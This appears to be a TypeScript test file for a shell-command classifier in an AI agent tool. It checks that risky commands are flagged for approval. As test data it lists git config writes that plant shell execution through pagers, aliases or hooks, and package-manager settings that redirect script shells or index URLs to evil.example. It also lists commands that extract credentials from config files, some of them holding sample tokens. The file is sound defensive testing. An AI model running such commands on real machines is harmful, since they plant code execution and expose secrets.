/**
 * Security round three (issue 29), item 14: round-two mechanisms with new spellings, table-driven against real files.
 * (a) `git config` writes whose action flag stands after the key and value, or anywhere git's parser takes options;
 * (b) a package manager's own config command setting a key that decides what it runs; (c) credentials in a config
 * file that is not a `.env`, reached through field-extracting commands — judged by the file's content.
 */
import { execFileSync } from 'node:child_process';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { classifyCommand } from '../../src/main/tools/shell/command-classifier';
import type { ClassifyContext } from '../../src/main/runtime/tool';
import { tempDir } from '../support/tool-context';

let ctx: ClassifyContext;
beforeAll(() => {
  const ws = tempDir('deskhand-round3-');
  execFileSync('git', ['init', '-q', ws]);
  mkdirSync(join(ws, 'conf'), { recursive: true });
  writeFileSync(join(ws, 'config.json'), '{\n  "name": "app",\n  "token": "ghp_4bY7qLm2Xc9Rt5Vw8Zs1Kd6Hf3Jn0Pa2Eu7Qi"\n}\n');
  writeFileSync(join(ws, 'app.yaml'), 'db:\n  host: localhost\n  password: Tr0ub4dor-and-3\n');
  writeFileSync(join(ws, 'conf', 'settings.ini'), '[api]\nclient_secret = Zx9yW8vU7tS6rQ5p\n');
  writeFileSync(join(ws, 'conf', 'app.toml'), '[service]\napi_key = "abc123def456ghi789"\n');
  writeFileSync(join(ws, 'conf', 'plain.json'), '{"name": "app", "integrity": "sha512-abcdefabcdefabcdefabcdefabcdef=="}\n');
  writeFileSync(join(ws, 'conf', 'placeholder.yaml'), 'db:\n  password: ${DB_PASSWORD}\n');
  ctx = { cwd: ws, workspaceRoots: [ws], dataDir: join(ws, '..', 'no-data') };
});

const asks = (command: string) => classifyCommand(command, ctx).alwaysAsk ?? null;

describe('(a) git config writes, options anywhere as git parses them', () => {
  it.each([
    `git config core.pager "sh -c 'touch /tmp/x'" --replace-all`,
    `git config --local alias.x '!sh -c id' --add`,
    `git config alias.x '!sh' --add`,
    `git config core.fsmonitor 'touch /tmp/x' --add`,
    `git config core.hooksPath /tmp/hooks --replace-all`,
    `git config core.sshCommand 'sh -c id' --type=path`,
    `git config alias.y '!sh' --local`,
    `git config filter.x.clean 'sh -c id' --worktree`,
    `git config diff.external /tmp/x --no-type`,
    `git config --null core.editor 'sh -c id'`,
    `git config -z alias.z '!id'`,
    `git config core.pager sh '^less$'`,
    `git config --repl core.pager sh`,
    `git config --ad alias.q '!id'`,
    `git config set core.pager sh`,
    `git config set --append alias.q '!id'`,
    `git --no-pager config core.pager 'sh -c id' --replace-all`,
    // git 2.39 stops parsing options at the first operand: a trailing action flag is a value pattern (round four).
    `git config core.pager --get`,
    `git config alias.x --get-all`,
  ])('%s asks', (command) => {
    expect(classifyCommand(command, ctx).risk).toBe('high-risk');
    expect(asks(command)).not.toBeNull();
  });

  it.each([`git config core.pager`, `git config --get core.pager`, `git config --get-all alias.x`, `git config --list`, `git config -l --show-origin`, `git config get core.pager`])('%s stays a read', (command) => {
    expect(classifyCommand(command, ctx).risk).toBe('read-only');
  });
});

describe('(b) a package manager setting its own script-running configuration', () => {
  it.each([
    'npm config set script-shell /tmp/evil.sh',
    'npm config set script-shell=/tmp/evil.sh',
    'npm config set ignore-scripts false',
    'npm config --location project set ignore-scripts=false',
    'npm config set node-options="--require /tmp/x.js"',
    'npm c set onload-script /tmp/x.js',
    'npm set script-shell /tmp/evil.sh',
    'npm config delete ignore-scripts',
    'npm config edit',
    'npm config set loglevel silent script-shell /tmp/x',
    'yarn config set script-shell /tmp/evil.sh',
    'yarn config set yarnPath /tmp/evil.js -H',
    'yarn config set enableScripts true',
    'pnpm config set ignore-scripts false',
    'pnpm config set --location project shell-emulator true',
    'pnpm set node-options=--require=/tmp/x.js',
    'pip config set global.index-url http://evil.example/simple',
    'pip3 config --user set global.extra-index-url http://evil.example/simple',
    'pip config edit --editor vi',
    'pip config unset global.no-binary',
    'poetry config repositories.evil http://evil.example',
    'bundle config set --local path /tmp/x',
    'go env -w GOFLAGS=-toolexec=/tmp/x',
  ])('%s asks', (command) => {
    expect(classifyCommand(command, ctx).risk).toBe('high-risk');
    expect(asks(command)).toMatch(/own configuration/);
  });

  it.each(['npm config set loglevel silent', 'npm config set fund=false', 'pnpm config set color false', 'pip config set global.timeout 60'])('%s (a harmless key) does not ask for that', (command) => {
    expect(asks(command) ?? '').not.toMatch(/own configuration/);
  });
});

describe('(c) credentials in config files that are not .env, judged by content', () => {
  it.each([
    'jq .token config.json',
    'jq -r ".token" config.json',
    "jq -r '.token' < config.json",
    'cat config.json | jq .token',
    'grep token config.json',
    'grep -o "ghp_[A-Za-z0-9]*" config.json',
    'grep password app.yaml',
    'grep -h -A1 db app.yaml',
    "cut -d: -f2 app.yaml",
    "awk '/password/ {print $2}' app.yaml",
    "awk -F': ' '{print $2}' app.yaml",
    'yq .db.password app.yaml',
    'sed -n 3p app.yaml',
    'tail -1 app.yaml',
    'head -n 3 app.yaml',
    'cat app.yaml',
    'grep client_secret conf/settings.ini',
    'cut -d= -f2 conf/settings.ini',
    "awk -F'\"' '{print $2}' conf/app.toml",
    'sort conf/app.toml',
  ])('%s asks (the file holds credentials)', (command) => {
    expect(asks(command)).toMatch(/whose content holds credentials/);
  });

  it.each(['cat conf/plain.json', 'jq .integrity conf/plain.json', 'grep password conf/placeholder.yaml'])('%s reads a file without credentials: no ask for that', (command) => {
    expect(asks(command) ?? '').not.toMatch(/holds credentials/);
  });
});
